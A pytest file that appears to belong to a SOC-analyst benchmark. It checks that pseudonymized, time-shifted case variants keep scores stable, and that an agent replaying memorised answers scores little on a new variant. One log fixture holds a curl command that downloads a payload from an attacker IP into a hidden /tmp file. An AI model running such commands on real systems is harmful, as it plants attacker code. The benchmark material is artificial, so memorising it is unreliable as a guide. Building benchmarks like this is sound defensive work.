"""`--soclab-variant=K`: every case and task re-keyed and time-shifted, a complete and consistent case.

The reference analyst scores the same on variants 0, 1 and 2 of every task; an agent that memorised
variant 0 (its queries and its report) and replays them on variant 1 scores next to nothing.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest

from pytest_soclab.corpus import is_recorded
from pytest_soclab.models import Task
from pytest_soclab.pseudonymize import Variant, offset_days
from pytest_soclab.pseudonymize.variant import shift_text

REPO = Path(__file__).resolve().parents[2]
def _case_of(path: Path) -> str:
    return str(json.loads(path.read_text(encoding="utf-8"))["source_case"])


# Tasks over generated cases, and over the recorded ones but the LSASS campaigns (40-60k events
# each: importing and re-keying six of them three times would cost CI many minutes; their variants
# were measured by hand, see docs/variants.md).
TASKS = sorted(p for p in (REPO / "tasks").glob("task-*.json") if not is_recorded(REPO / "corpus" / _case_of(p)))
RECORDED_TASKS = sorted(
    p for p in (REPO / "tasks").glob("task-*.json")
    if is_recorded(REPO / "corpus" / _case_of(p)) and not _case_of(p).startswith("rec-lsass-")
)
SCALE = "0.05"

# An agent (`--soclab-agent=replay_agent:investigate`) that memorised variant 0: it recognises the task
# by its words and replays the queries and the report it remembers.
REPLAY_AGENT = '''
import json, os, re

def _words(s):
    return set(re.findall(r"[a-z]{4,}", s.lower()))

def investigate(trigger, tools):
    memory = json.loads(open(os.environ["SOCLAB_REPLAY"], encoding="utf-8").read())
    seen = _words(trigger["prompt"] + json.dumps(trigger.get("pivot", {})))
    best = max(memory, key=lambda m: len(seen & _words(m["prompt"])))
    for call in best["calls"]:
        try:
            tools.call(call["tool"], **call["args"])
        except Exception:
            pass
    return best["report"]
'''


def _benign(task_id: str) -> bool:
    task = json.loads((REPO / "tasks" / f"{task_id}.json").read_text(encoding="utf-8"))
    return not task["attack_stage"]  # no stage of an attack: the estate's own work


def _project(root: Path, cache: Path) -> None:
    root.mkdir(parents=True, exist_ok=True)
    (root / "pytest.ini").write_text(
        "[pytest]\n"
        f"soclab_corpus_dir = {REPO / 'corpus'}\n"
        f"soclab_policy_dir = {REPO / 'rego'}\n"
        f"soclab_cache_dir = {cache}\n"
        f"soclab_scale = {SCALE}\n"
    )
    (root / "replay_agent.py").write_text(REPLAY_AGENT)


def _run(pytester: pytest.Pytester, root: Path, variant: int, agent: str, name: str,
         tasks: list[Path] = TASKS) -> dict[str, dict[str, Any]]:  # fmt: skip
    out = root / f"{name}.json"
    res = pytester.runpytest_subprocess(
        *[str(t) for t in tasks], "-c", str(root / "pytest.ini"), "--rootdir", str(root), "-p", "no:cacheprovider",
        f"--soclab-agent={agent}", f"--soclab-variant={variant}", f"--soclab-json={out}",
    )  # fmt: skip
    assert out.is_file(), res.stdout.str()[-3000:]
    data = json.loads(out.read_text())
    assert data["run"]["variant"] == variant
    return {i["scenario_id"]: i for i in data["items"]}


def test_playbook_scores_the_same_on_variants(pytester: pytest.Pytester, tmp_path: Path) -> None:
    root = tmp_path / "project"
    _project(root, tmp_path / "cache")
    pytester.chdir()
    runs = {k: _run(pytester, root, k, "playbook", f"v{k}") for k in (0, 1, 2)}
    assert set(runs[0]) == {t.stem for t in TASKS}
    for tid in runs[0]:
        scores = [100 * runs[k][tid]["score"] for k in (0, 1, 2)]
        assert max(scores) - min(scores) <= 2, (tid, scores)
        assert all(runs[k][tid]["variant"] == k for k in (0, 1, 2))
    # Variant 1 names other entities than variant 0: the reports differ.
    assert runs[0]["task-01"]["report"] != runs[1]["task-01"]["report"]


def test_playbook_scores_the_same_on_variants_of_recorded_cases(pytester: pytest.Pytester, tmp_path: Path) -> None:
    """Recorded intrusions re-keyed: Windows hosts and FQDNs, domain accounts, Zeek's NetBIOS names
    and broadcasts, product accounts (MSOL_), per-user installs. Measured on the first twelve tasks: 100
    on each variant (before the pseudonymizer learned these, variant 1 scored 80.8-93.5 on five); the
    eleven recordings added since keep their score on each variant, the unseen set's low ones too."""
    root = tmp_path / "project"
    _project(root, tmp_path / "cache")
    pytester.chdir()
    runs = {k: _run(pytester, root, k, "playbook", f"v{k}", RECORDED_TASKS) for k in (0, 1, 2)}
    assert set(runs[0]) == {t.stem for t in RECORDED_TASKS} and len(RECORDED_TASKS) >= 10
    for tid in runs[0]:
        scores = [100 * runs[k][tid]["score"] for k in (0, 1, 2)]
        assert max(scores) - min(scores) <= 2, (tid, scores)
    hosts = {h for t in RECORDED_TASKS for h in json.loads(t.read_text())["ground_truth"]["implicated_hosts"]}
    for tid, item in runs[1].items():
        assert not any(h.lower() in item["report"].lower() for h in hosts), tid  # variant 1 names its own hosts


def test_replaying_variant_0_scores_little_on_variant_1(
        pytester: pytest.Pytester, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    root = tmp_path / "project"
    _project(root, tmp_path / "cache")
    pytester.chdir()
    v0 = _run(pytester, root, 0, "playbook", "v0")
    prompts = {t.stem: json.loads(t.read_text())["trigger"]["prompt"] for t in TASKS}
    memory = [{"prompt": prompts[tid], "report": item["report"],
               "calls": [{"tool": c["tool"], "args": c["args"]} for c in item["transcript"]
                         if c["tool"] in ("list_indices", "get_mappings", "esql_query", "es_search")]}
              for tid, item in v0.items()]
    replay_file = tmp_path / "memory.json"
    replay_file.write_text(json.dumps(memory))
    monkeypatch.setenv("SOCLAB_REPLAY", str(replay_file))
    monkeypatch.setenv("PYTHONPATH", os.pathsep.join([str(root), os.environ.get("PYTHONPATH", "")]))
    replayed = _run(pytester, root, 1, "replay_agent:investigate", "replay-v1")
    for tid, item in replayed.items():
        # It did replay: the remembered queries ran and the remembered report was judged.
        assert item["outcome"] != "error" and item["transcript"], (tid, item.get("error"))
    scores = {tid: round(100 * item["score"], 1) for tid, item in sorted(replayed.items())}
    # Benign tasks are left out: their answer ("the scheduled update, take no action") is made of
    # names the system ships, which a variant keeps, and the replayed queries find them again.
    intrusions = {tid: v for tid, v in scores.items() if not _benign(tid)}
    # Measured: 0-6 per task, mean 2.5 (22-36 before the intruder's file names were re-keyed; 3-19.8
    # before one-letter hidden files and suffixed package names were, a verdict had to name one of
    # the incident's own entities, and names in none of the agent's results counted twice). What is
    # left is restraint: the replay destroyed nothing.
    assert max(intrusions.values()) <= 10, json.dumps(scores)


def test_a_variant_is_consistent_and_keeps_the_order_of_time() -> None:
    doc = {"@timestamp": "2024-05-14T02:10:09.000Z", "host": {"name": "web-01", "ip": ["10.20.1.11"]},
           "source": {"ip": "198.51.100.177"}, "user": {"name": "deploy"},
           "process": {"command_line": "curl -s http://198.51.100.177/x -o /tmp/.sysupdate"},
           "event": {"created": "2024-05-14T02:10:10Z"}}
    later = dict(doc, **{"@timestamp": "2024-05-15T00:00:00Z"})
    v = Variant(1)
    v.learn([doc, later])
    a, b = v.document(doc), v.document(later)
    assert a["host"]["name"] != "web-01" and a["source"]["ip"] != "198.51.100.177"
    assert a["source"]["ip"] in a["process"]["command_line"]
    assert a["@timestamp"] < b["@timestamp"] and a["@timestamp"][10:] == doc["@timestamp"][10:]
    task = json.loads(TASKS[0].read_text())
    t = Task.model_validate(v.task(task))
    assert t.ground_truth.attacker_ip != task["ground_truth"]["attacker_ip"]
    assert "web-01" not in json.dumps(t.model_dump())
    assert a["host"]["name"] in t.ground_truth.implicated_hosts
    # Variant 2 differs from variant 1; the offset is whole weeks into the past.
    assert Variant(2).document(doc)["host"]["name"] != a["host"]["name"]
    assert all(offset_days(k) % 7 == 0 and offset_days(k) < 0 for k in (1, 2, 3))
    assert shift_text("on 2024-05-14 and .ds-x-2024.05.14-000001", -7) == "on 2024-05-07 and .ds-x-2024.05.07-000001"
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}T02:10:09\.000Z", a["@timestamp"])


def test_a_variant_keeps_public_platforms_and_rekeys_the_estate() -> None:
    """A payload fetched from GitHub is still fetched from GitHub in a variant (the analyst must see a
    code-hosting platform there); the host that fetched it is re-keyed."""
    doc = {"@timestamp": "2020-10-22T01:40:50.000Z", "host": {"name": "WS-042.corp.example.net"},
           "event": {"code": "22"}, "dns": {"question": {"name": "github.com"}, "resolved_ip": ["140.82.121.4"]},
           "process": {"name": "powershell.exe"}}
    raw = {**doc, "dns": {"question": {"name": "raw.githubusercontent.com"}, "resolved_ip": ["151.101.208.133"]}}
    v = Variant(1)
    v.learn([doc, raw])
    out, out_raw = v.document(doc), v.document(raw)
    assert out["dns"]["question"]["name"] == "github.com"
    assert out_raw["dns"]["question"]["name"].endswith(".githubusercontent.com")
    assert out["host"]["name"] != doc["host"]["name"] and out["dns"]["resolved_ip"] != doc["dns"]["resolved_ip"]
